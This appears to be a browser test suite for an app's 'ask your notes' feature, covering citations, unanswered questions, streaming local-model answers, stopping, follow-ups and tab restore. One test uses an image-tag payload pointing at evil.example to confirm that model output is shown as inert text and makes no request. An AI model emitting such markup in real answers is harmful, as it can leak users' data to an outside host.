import { becomes, equal, expect, test } from "./harness.mjs";

const active = "[role=tabpanel]:not([hidden])";

async function openAsk(page) {
  await page.keyboard.press("Control+Shift+A");
  await page.locator(`${active} textarea`).waitFor();
}

async function ask(page, question) {
  await page.locator(`${active} textarea`).fill(question);
  await page.keyboard.press("Enter");
}

const article = (page, question) => page.locator(active).getByRole("article", { name: question });

test("ask: with no model the notes’ own words answer, each with its passage", async (open) => {
  const page = await open("", { width: 900, height: 600 });
  await openAsk(page);
  expect(await page.locator(`${active} textarea`).evaluate((e) => e === document.activeElement), "the box has the focus");
  await page.getByText("No language model is set up").waitFor();
  const question = "How much deposit does the landlord hold?";
  await ask(page, question);
  const answer = article(page, question);
  await answer.getByText("In your notes’ own words.").waitFor();
  const cite = answer.getByRole("button", { name: /^Passage 1:/ });
  await cite.hover();
  const tip = answer.getByRole("tooltip");
  await tip.waitFor();
  const marked = await tip.locator("mark").textContent();
  expect((await answer.locator(".text").textContent()).includes(marked.slice(0, 30)), "the sentence is the one that the passage marks");
  await page.mouse.move(0, 0);
  await tip.waitFor({ state: "detached" });
  // With the keyboard alone: the passage shows with the focus and goes with Escape.
  await cite.focus();
  await tip.waitFor();
  await page.keyboard.press("Escape");
  await tip.waitFor({ state: "detached" });
  await answer.getByRole("button", { name: /passages?$/ }).click();
  expect((await answer.getByTestId("quote").count()) > 0, "passages are listed");
  expect(!(await page.locator(`${active} .conversation`).evaluate((e) => e.scrollWidth > e.clientWidth)), "nothing is wider than the tab");
  await cite.click();
  await page.locator(`${active} .cm-editor`).first().waitFor();
});

test("ask: what the notes do not answer is told so, with the nearest passages", async (open) => {
  const page = await open();
  await openAsk(page);
  const question = "What deposit did the zookeeper pay for penguins and giraffes?";
  await ask(page, question);
  const answer = article(page, question);
  await answer.getByText("Not in your notes.").waitFor();
  expect((await answer.getByTestId("quote").count()) > 0, "the nearest passages are there");
  equal(await answer.getByRole("button", { name: "Save as note" }).count(), 0, "nothing to save");
});

test("ask: what a model writes streams, is checked, and renders as text only", async (open) => {
  const page = await open("?llm&slow=20", { dark: true });
  const requests = [];
  page.on("request", (request) => requests.push(request.url()));
  await openAsk(page);
  await page.getByText("Answers are written by a model on this computer.").waitFor();
  const question = "What does the landlord hold as deposit?";
  await ask(page, question);
  const answer = article(page, question);
  await answer.locator(".draft").waitFor();
  await answer.getByText(/Written by a model on this computer; 2 sentences without support/).waitFor();
  equal(await answer.locator("img, a, iframe, script").count(), 0, "live parts in the answer");
  expect((await answer.locator(".text").textContent()).includes('<img src="https://evil.example/leak?q=1">'), "markup is shown as text");
  equal(requests.filter((url) => url.includes("evil")), [], "requests that the answer made");
  equal(await answer.getByText("no passage says so").count(), 2, "sentences without support");
  await answer.getByRole("button", { name: "Save as note" }).click();
  await page.getByText("The answer is saved as a note.").waitFor();
  const body = await page.evaluate(() => window.fakeShell.calls.findLast((c) => c.name === "createNote").args[0].body);
  expect(/\[\[[^\]]+\]\]/.test(body), "the saved note links to its sources");
  expect(!/(^|[^\\])!\[/.test(body) && !/(^|[^\\])<img/.test(body), "the saved note has no live image");
});

test("ask: stop, ask again, follow-ups, and two tabs at once", async (open) => {
  const page = await open("?llm&slow=60");
  await openAsk(page);
  const first = "What does the landlord hold as deposit?";
  await ask(page, first);
  await article(page, first).locator(".draft").waitFor();
  // A second tab asks while the first is being answered.
  await page.keyboard.press("Control+Shift+A");
  await page.locator(`${active} textarea`).waitFor();
  const other = "When is the tax return due?";
  await ask(page, other);
  await article(page, other).waitFor();
  await page.keyboard.press("Escape");
  await article(page, other).getByText(/^Stopped/).waitFor();
  await article(page, other).getByRole("button", { name: "Ask again" }).click();
  await article(page, other).getByText(/Written by|Not in your notes/).waitFor();
  // The box remembers.
  await page.locator(`${active} textarea`).focus();
  await page.keyboard.press("ArrowUp");
  await becomes(() => page.locator(`${active} textarea`).inputValue(), other, "the last question");
  await page.keyboard.press("Control+1");
  await page.keyboard.press("Control+2");
  await article(page, first).getByText(/Written by/).waitFor();
  const follow = "And when is it returned?";
  await ask(page, follow);
  await article(page, follow).getByText(/Written by|Not in your notes/).waitFor();
  const before = await page.evaluate(() => window.fakeShell.calls.findLast((c) => c.name === "ask").args[0].before);
  equal(before.map((turn) => turn.question), [first], "the conversation that is sent along");
});

test("ask: a tab that is opened again knows its questions", async (open) => {
  const page = await open();
  const question = "When is the tax return due?";
  await openAsk(page);
  await ask(page, question);
  await article(page, question).getByText(/own words|Not in your notes/).waitFor();
  await page.keyboard.press("Control+W");
  await page.keyboard.press("Control+Shift+T");
  await page.locator(active).getByRole("button", { name: question }).click();
  await article(page, question).getByText(/own words|Not in your notes/).waitFor();
});
